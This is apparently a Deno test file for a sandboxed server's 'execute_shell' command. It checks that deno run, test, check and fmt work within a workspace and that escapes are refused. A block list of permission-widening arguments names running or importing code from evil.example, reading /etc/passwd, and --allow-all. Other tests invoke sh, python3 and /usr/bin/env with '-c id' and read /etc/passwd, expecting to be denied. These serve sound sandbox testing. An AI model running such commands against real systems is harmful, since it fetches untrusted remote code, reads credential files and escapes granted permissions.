import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import type { CommandResults } from "../../src/protocol/commands.ts";
import { requirement } from "../testutil/requirement.ts";
import { sharedServer } from "../testutil/shared_server.ts";
import type { TestSession } from "../testutil/test_session.ts";

const server = sharedServer();
// These read files without regard to permissions, so they need the outer sandbox.
const bubblewrap = await requirement("bubblewrap");

type ShellResult = CommandResults["execute_shell"];

function withFiles(
  files: Record<string, string>,
  run: (session: TestSession) => Promise<void>,
): Promise<void> {
  return server.withSession(run, { files });
}

async function shell(
  session: TestSession,
  ...args: string[]
): Promise<ShellResult> {
  const { result, error } = await session.shell("deno", args);
  assert(result !== null, error ?? "no result");
  return result as ShellResult;
}

Deno.test("execute_shell runs a file with deno run", () =>
  withFiles(
    { "a.ts": "const n: number = 1; console.log(n, Deno.args.join());" },
    async (session) => {
      for (
        const args of [["run", "/workspace/a.ts"], ["run", "a.ts"], [
          "run",
          "./a.ts",
        ]]
      ) {
        const { exitCode, stdout, stderr } = await shell(session, ...args);
        assertEquals(
          [exitCode, stdout, stderr],
          [0, "1 \n", ""],
          args.join(" "),
        );
      }
      const { stdout } = await shell(
        session,
        "run",
        "a.ts",
        "-x",
        "--allow-all",
        "a b",
      );
      assertEquals(stdout, "1 -x,--allow-all,a b\n");
    },
  ));

Deno.test("execute_shell starts in the working directory and takes stdin and env", () =>
  withFiles({
    "sub/b.ts":
      "console.log(Deno.cwd(), await new Response(Deno.stdin.readable).text(), import.meta.main)",
  }, async (session) => {
    const options = { workingDirectory: "/workspace/sub", stdin: "in" };
    const { result } = await session.shell("deno", ["run", "b.ts"], options);
    assertEquals((result as ShellResult).stdout, "/workspace/sub in true\n");
    const outside = await session.shell("deno", ["run", "b.ts"], {
      workingDirectory: "/etc",
    });
    assertEquals(outside.success, false);
    const missing = await session.shell("deno", ["run", "b.ts"], {
      workingDirectory: "none",
    });
    assertEquals(missing.success, false);
  }));

Deno.test("execute_shell reports exit codes, stderr and the verdict", () =>
  withFiles(
    { "c.ts": "console.log('out'); console.error('err'); Deno.exit(3);" },
    async (session) => {
      const { success, status, exitCode, result } = await session.shell(
        "deno",
        ["run", "c.ts"],
      );
      assertEquals([success, status, exitCode], [false, "nonzero_exit", 3]);
      const { durationMs, ...rest } = result as ShellResult;
      assertEquals(rest, { exitCode: 3, stdout: "out\n", stderr: "err\n" });
      assert(durationMs >= 0);
    },
  ));

Deno.test("execute_shell runs deno test on workspace files", () =>
  withFiles({
    "good_test.ts": "Deno.test('adds', () => { if (1 + 1 !== 2) throw new Error(); });",
    "bad_test.ts": "Deno.test('fails', () => { throw new Error('as it should'); });",
  }, async (session) => {
    const good = await shell(session, "test", "good_test.ts");
    assertEquals(good.exitCode, 0, good.stderr);
    assertMatch(good.stdout, /adds .*ok/);
    const bad = await shell(session, "test", "bad_test.ts");
    assertEquals(bad.exitCode, 1);
    assertStringIncludes(bad.stdout + bad.stderr, "as it should");
  }));

Deno.test("execute_shell runs deno test under the session's permissions", () =>
  withFiles({
    "net_test.ts": "Deno.test('reads', () => { Deno.readTextFileSync('/etc/passwd'); });",
  }, async (session) => {
    const { exitCode, stdout, stderr } = await shell(
      session,
      "test",
      "net_test.ts",
    );
    assertEquals(exitCode, 1);
    assertMatch(stdout + stderr, /Requires read access|No such file/);
  }));

Deno.test("execute_shell checks types with deno check", bubblewrap, () =>
  withFiles({
    "good.ts": "export const n: number = 1;",
    "bad.ts": "export const n: number = 'text';",
  }, async (session) => {
    const good = await shell(session, "check", "good.ts");
    assertEquals(good.exitCode, 0, good.stderr);
    const bad = await shell(session, "check", "bad.ts");
    assertEquals(bad.exitCode, 1);
    assertStringIncludes(bad.stderr, "TS2322");
    assert(!bad.stderr.includes(server.process.dataDir), bad.stderr);
  }));

Deno.test(
  "execute_shell formats workspace files with deno fmt",
  bubblewrap,
  () =>
    withFiles({ "f.ts": "const  a=1\nconsole.log( a )" }, async (session) => {
      const { exitCode, stderr } = await shell(session, "fmt", "f.ts");
      assertEquals(exitCode, 0, stderr);
      assertEquals(await session.read("f.ts"), "const a = 1;\nconsole.log(a);\n");
      assertEquals((await shell(session, "fmt", "--check", "f.ts")).exitCode, 0);
    }),
);

const WIDENING = [
  ["run", "--allow-all", "a.ts"],
  ["run", "-A", "a.ts"],
  ["run", "--allow-run", "a.ts"],
  ["run", "--allow-run=sh", "a.ts"],
  ["run", "--allow-net", "a.ts"],
  ["run", "-N", "a.ts"],
  ["run", "--allow-ffi", "a.ts"],
  ["run", "--allow-sys", "a.ts"],
  ["run", "--allow-env=HOME", "a.ts"],
  ["run", "--allow-read=/etc", "a.ts"],
  ["run", "--allow-import=evil.example", "a.ts"],
  ["run", "--config", "/etc/deno.json", "a.ts"],
  ["run", "--config=/etc/deno.json", "a.ts"],
  ["run", "-c", "/etc/deno.json", "a.ts"],
  ["run", "--import-map", "/etc/map.json", "a.ts"],
  ["run", "--import-map=https://evil.example/map.json", "a.ts"],
  ["run", "--preload", "/etc/x.ts", "a.ts"],
  ["run", "--unsafely-ignore-certificate-errors", "a.ts"],
  ["run", "--inspect", "a.ts"],
  ["run", "--env-file=/etc/environment", "a.ts"],
  ["run", "--v8-flags=--max-old-space-size=65536", "a.ts"],
  ["run", "/etc/passwd"],
  ["run", "../../etc/passwd"],
  ["run", "https://evil.example/a.ts"],
  ["run", "npm:cowsay"],
  ["test", "-A"],
  ["eval", "1"],
  ["repl"],
  ["install", "npm:zod"],
  ["task", "x"],
  ["serve", "a.ts"],
  ["compile", "a.ts"],
  ["upgrade"],
  ["-A", "a.ts"],
];

Deno.test("execute_shell refuses flags and subcommands that widen permissions", () =>
  withFiles(
    { "a.ts": "Deno.writeTextFileSync('ran', '')" },
    async (session) => {
      await using client = await server.connect();
      for (const args of WIDENING) {
        const command = { type: "execute_shell", commandName: "deno", args };
        const params = { sessionId: session.id, command };
        const { error, result } = await client.call("session.execute", params);
        const envelope = result as
          | { success: boolean; error: string }
          | undefined;
        assert(
          error?.code === -32602 || envelope?.success === false,
          args.join(" "),
        );
        assert(
          (error?.message ?? envelope?.error ?? "").length > 0,
          args.join(" "),
        );
        const ran = await session.execute({ type: "file_info", path: "ran" });
        assertEquals(ran.success, false, `${args.join(" ")} ran the program`);
      }
    },
  ));

Deno.test("execute_shell refuses other programs and says what to do", () =>
  withFiles({}, async (session) => {
    await using client = await server.connect();
    for (
      const commandName of [
        "python3",
        "sh",
        "/bin/sh",
        "node",
        "./deno",
        "/usr/bin/env",
        "no-such",
      ]
    ) {
      const command = {
        type: "execute_shell",
        commandName,
        args: ["-c", "id"],
      };
      const params = { sessionId: session.id, command };
      const { error, result } = await client.call("session.execute", params);
      const envelope = result as
        | { success: boolean; error: string }
        | undefined;
      const text = error?.message ?? envelope?.error ?? "";
      assert(error !== undefined || envelope?.success === false, commandName);
      assertMatch(text, /allowRun|docker/i, commandName);
    }
  }));

Deno.test("execute_shell ends at its timeout with the output so far", () =>
  withFiles(
    { "loop.ts": "console.log('begun'); for (;;);" },
    async (session) => {
      const { status, result } = await session.shell(
        "deno",
        ["run", "loop.ts"],
        { timeoutMs: 800 },
      );
      assertEquals(status, "timeout");
      assertEquals((result as ShellResult).stdout, "begun\n");
      assertEquals(await session.output("console.log('next')"), "next");
    },
  ));
